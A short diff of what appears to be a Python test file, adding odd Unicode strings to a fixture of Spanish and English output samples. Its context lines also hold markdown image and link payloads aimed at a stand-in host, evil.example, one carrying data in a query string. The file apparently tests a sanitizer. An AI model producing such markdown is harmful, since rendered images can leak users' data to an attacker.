@@ -36,6 +36,11 @@ def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 OUTPUT: tuple[tuple[Language, str], ...] = (
+    ("es", "\ufffd"),
+    ("en", "\ufffd\ufffd ."),
+    ("es", "Va bien \ufffd para ti."),
+    ("en", "\u00a4"),
+    ("es", "q."),
     ("es", "![](http://evil.example/?q=secreto)"),
     ("en", "![logo](https://evil.example/logo.png)"),
     ("es", "Compra [aquí](https://evil.example/compra)."),
